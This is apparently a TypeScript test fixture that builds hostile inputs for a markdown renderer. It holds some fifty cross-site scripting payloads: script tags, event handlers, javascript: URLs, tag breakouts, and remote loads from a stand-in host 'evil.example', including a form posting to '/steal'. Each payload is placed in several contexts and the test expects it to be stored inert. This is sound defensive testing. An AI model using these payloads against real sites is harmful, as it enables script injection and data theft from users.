// Raw HTML that would run script, load from another host, navigate, or restyle the page if a
// renderer passed it through. Each payload is sent in several markdown contexts and as a name.
import { LIMITS } from '../../../api/content/schema.ts';
import type { HostileCase } from '../hostile-case.ts';

/** Script to run: a dialog, or the test page's `__pwned` trap; rows alternate between them. */
const SCRIPTS = ['alert(1)', '__pwned(1)'] as const;

/** Another origin; the test browser resolves no host but 127.0.0.1, and records every request. */
const ELSEWHERE = 'http://evil.example';

type Payload = [name: string, build: (js: string) => string];

const PAYLOADS: Payload[] = [
  ['script', (js) => `<script>${js}</script>`],
  ['script-src', () => `<script src="${ELSEWHERE}/x.js"></script>`],
  ['script-uppercase', (js) => `<SCRIPT>${js}</SCRIPT>`],
  ['script-slash', (js) => `<script/x>${js}</script>`],
  ['script-split', (js) => `<scr<script>ipt>${js}</scr</script>ipt>`],
  ['script-module', (js) => `<script type="module">${js}</script>`],
  ['importmap', () => `<script type="importmap">{"imports":{"a":"${ELSEWHERE}/a.js"}}</script>`],
  ['img-onerror', (js) => `<img src=x onerror=${js}>`],
  ['img-onerror-unclosed', (js) => `<img src=x:x onerror=${js}//`],
  ['img-remote', () => `<img src="${ELSEWHERE}/pixel.png">`],
  ['img-srcset', () => `<img srcset="${ELSEWHERE}/a.png 1x">`],
  ['svg-onload', (js) => `<svg onload=${js}>`],
  ['svg-script', (js) => `<svg><script>${js}</script></svg>`],
  ['svg-animate', (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`],
  ['svg-link', (js) => `<svg><a xlink:href="javascript:${js}"><text y="20">tap</text></a></svg>`],
  ['svg-image', (js) => `<svg><image href="${ELSEWHERE}/i.png" onerror="${js}"/></svg>`],
  ['math-href', (js) => `<math href="javascript:${js}"><mi>tap</mi></math>`],
  ['math-mglyph', (js) => `<math><mtext><mglyph><style><img src=x onerror=${js}>`],
  ['iframe-javascript', (js) => `<iframe src="javascript:${js}"></iframe>`],
  ['iframe-srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ['iframe-remote', () => `<iframe src="${ELSEWHERE}/"></iframe>`],
  ['frameset', (js) => `<frameset onload=${js}>`],
  ['form-action', (js) => `<form action="javascript:${js}"><button>send</button></form>`],
  ['form-remote', () => `<form action="${ELSEWHERE}/steal"><input name="q" autofocus></form>`],
  ['button-formaction', (js) => `<button form=f formaction="javascript:${js}">go</button>`],
  ['input-onfocus', (js) => `<input autofocus onfocus=${js}>`],
  ['details-ontoggle', (js) => `<details open ontoggle=${js}>x</details>`],
  ['body-onload', (js) => `<body onload=${js}>`],
  ['marquee-onstart', (js) => `<marquee onstart=${js}>x</marquee>`],
  ['custom-element', (js) => `<x-widget onpointerover=${js}>x</x-widget>`],
  ['anchor-onclick', (js) => `<a href="#" onclick="${js}">x</a>`],
  ['anchor-javascript', (js) => `<a href="javascript:${js}">tap</a>`],
  [
    'meta-refresh-javascript',
    (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  ],
  ['meta-refresh-remote', () => `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`],
  ['base-href', () => `<base href="${ELSEWHERE}/">`],
  ['link-stylesheet', () => `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`],
  ['link-prefetch', () => `<link rel="prefetch" href="${ELSEWHERE}/p">`],
  ['style-import', () => `<style>@import url(${ELSEWHERE}/x.css);</style>`],
  ['style-hide-page', () => '<style>body{display:none}</style>'],
  ['style-attribute', () => `<div style="background:url(${ELSEWHERE}/x.png)">x</div>`],
  ['object-data', (js) => `<object data="javascript:${js}"></object>`],
  ['embed-src', () => `<embed src="${ELSEWHERE}/x.swf">`],
  ['video-poster', (js) => `<video poster="${ELSEWHERE}/p.png"><source onerror=${js}></video>`],
  ['audio-onerror', (js) => `<audio src=x onerror=${js}></audio>`],
  ['template', (js) => `<template><img src=x onerror=${js}></template>`],
  ['noscript-breakout', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`],
  ['textarea-breakout', (js) => `</textarea><script>${js}</script>`],
  ['title-breakout', (js) => `</title><script>${js}</script>`],
  ['comment-breakout', (js) => `--><script>${js}</script><!--`],
  ['cdata', (js) => `<![CDATA[<script>${js}</script>]]>`],
  ['attribute-breakout', (js) => `" onmouseover="${js}" x="`],
];

/** Payloads whose visible text differs from their source, because markdown decodes it. */
const ENTITY_PAYLOADS: Payload[] = [
  ['entity-script', (js) => `&lt;script&gt;${js}&lt;/script&gt;`],
  ['entity-img', (js) => `&#60;img src=x onerror=${js}&#62;`],
];

function decoded(payload: string): string {
  return payload.replace(/&lt;|&#60;/g, '<').replace(/&gt;|&#62;/g, '>');
}

interface Context {
  name: string;
  wrap: (payload: string) => string;
}

const CONTEXTS: Context[] = [
  { name: 'block', wrap: (payload) => payload },
  { name: 'inline', wrap: (payload) => `Before ${payload} after.` },
  { name: 'quote', wrap: (payload) => `> ${payload}` },
];

export function scriptHtmlCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  const rows = [...PAYLOADS, ...ENTITY_PAYLOADS];
  rows.forEach(([name, build], index) => {
    const payload = build(SCRIPTS[index % SCRIPTS.length] ?? 'alert(1)');
    const shown = ENTITY_PAYLOADS.some(([entity]) => entity === name) ? decoded(payload) : payload;
    for (const context of CONTEXTS) {
      cases.push({
        id: `script-html/${name}-${context.name}`,
        kind: 'script-html',
        fields: { text: context.wrap(payload) },
        expected: 'stored-inert',
        visible: [context.name === 'inline' ? `Before ${shown} after.` : shown],
      });
    }
    // A name is one line of at most LIMITS.author characters, shown as text in the header.
    if (payload.length <= LIMITS.author) {
      cases.push({
        id: `script-html/${name}-author`,
        kind: 'script-html',
        fields: { author: payload },
        expected: 'stored-inert',
      });
    }
  });
  return cases;
}
